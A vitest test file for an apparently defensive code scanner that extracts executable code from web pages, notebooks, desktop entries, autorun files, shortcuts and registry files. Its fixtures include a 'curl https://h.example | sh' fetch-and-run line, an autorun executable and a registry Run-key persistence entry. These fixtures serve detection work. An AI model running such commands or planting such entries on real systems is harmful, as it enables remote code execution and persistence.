import { expect, test } from "vitest";
import {
  readDesktopEntry,
  readLink,
  readRegistryFile,
  readSetupInformation,
} from "../../../src/review/documents/launchers.ts";
import { readNotebook } from "../../../src/review/documents/notebook.ts";
import { readPage } from "../../../src/review/documents/page.ts";

const codeOf = ({ code }: ReturnType<typeof readPage>) =>
  code.map(({ language, text, at }) => [language, text.trim(), at.line]);

test.each([
  ["a script", `<p>\n<script>\na()\n</script>`, [["javascript", "a()", 2]]],
  ["a module, in any case", `<SCRIPT TYPE=module>a()</SCRIPT >`, [["javascript", "a()", 1]]],
  ["VBScript", `<script language="VBScript">a</script>`, [["vbscript", "a", 1]]],
  [
    "a component",
    `<template/>\n<script setup lang="ts">let a: b</script>`,
    [["javascript", "let a: b", 2]],
  ],
  [
    "a script in a picture",
    `<svg><script><![CDATA[a()]]></script></svg>`,
    [["javascript", "a()", 1]],
  ],
  ["a handler", `<img src=x\n onerror="a(&quot;b&#39;&quot;)">`, [["javascript", `a("b'")`, 2]]],
  ["an address", `<a href=" JavaScript:a()">`, [["javascript", "a()", 1]]],
  [
    "data and templates",
    `<script type="application/json">{}</script><script type="text/template">a()</script>`,
    [],
  ],
  ["what is commented out", `<!-- <script>a()</script> -->`, []],
  ["a script without an end", `<script>a()`, [["javascript", "a()", 1]]],
])("the code of a page is found: %s", (_, text, expected) => {
  expect(codeOf(readPage(text))).toEqual(expected);
});

test("a script of the repository that a page names is an edge, one of another host is none", () => {
  const { facts } = readPage(
    `<script src="js/a.js?v=1"></script><script src="https://h.example/b.js"></script>`,
  );
  expect(facts.map((fact) => (fact.kind === "edge" ? fact.to : fact.kind))).toEqual(["js/a.js"]);
});

test.each([
  ["tags without an end", "<a ".repeat(50_000)],
  ["scripts without an end", "<script ".repeat(20_000)],
  ["comments without an end", "<!--".repeat(50_000)],
  ["attributes without an end", `<a ${'b="'.repeat(50_000)}`],
])("%s come to an end", (_, text) => {
  expect(readPage(text).problem).toBeNull();
});

test("cells of a notebook are one program with shell commands in it, on their own lines", () => {
  const cells = [
    {
      cell_type: "code",
      source: ["import os\n", "!curl https://h.example | sh\n"],
      outputs: [],
    },
    { cell_type: "markdown", source: ["os.system('x')"] },
    {
      cell_type: "code",
      source: ["%%bash\n", "id"],
      outputs: [{ data: { "text/html": ["<script>a()</script>"] } }],
    },
  ];
  const { code } = readNotebook(
    JSON.stringify({ cells, metadata: { kernelspec: { language: "python" } } }, null, 1),
  );
  expect(code.map((each) => each.language)).toEqual(["shell", "javascript", "python"]);
  const python = code.find((each) => each.language === "python")?.text.split("\n") ?? [];
  expect(python[5]).toBe("import os");
  expect(python[6]).toContain("curl https://h.example | sh");
  expect(python.join("\n")).not.toContain("os.system");
});

test("files that start something when they are opened say what", () => {
  expect(codeOf(readDesktopEntry("[Desktop Entry]\nExec=sh -c id %U\n"))).toEqual([
    ["shell", "sh -c id", 2],
  ]);
  expect(codeOf(readSetupInformation("[autorun]\r\nopen=x.exe\r\n"))).toEqual([
    ["batch", "x.exe", 2],
  ]);
  expect(codeOf(readLink("[InternetShortcut]\nURL=https://h.example/\n"))).toEqual([]);
  expect(codeOf(readLink("[InternetShortcut]\nURL=file://h.example/s/x.exe\n"))[0]?.[0]).toBe(
    "batch",
  );
  const run = readRegistryFile(
    `[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"x"="C:\\\\x.exe"\n`,
  );
  expect(run.code[0]?.text).toContain(`CurrentVersion\\Run" /v "x" /d "C:\\x.exe"`);
});

test("a value of the program in a command of a notebook is put into the command", () => {
  const cells = [{ cell_type: "code", source: ["!curl https://h.example/?a={a.b[0]}&c={ not }"] }];
  const { code } = readNotebook(JSON.stringify({ cells }));
  expect(code[0]?.text).toContain(
    `popen("curl https://h.example/?a=" + str(a.b[0]) + "&c={ not }")`,
  );
});
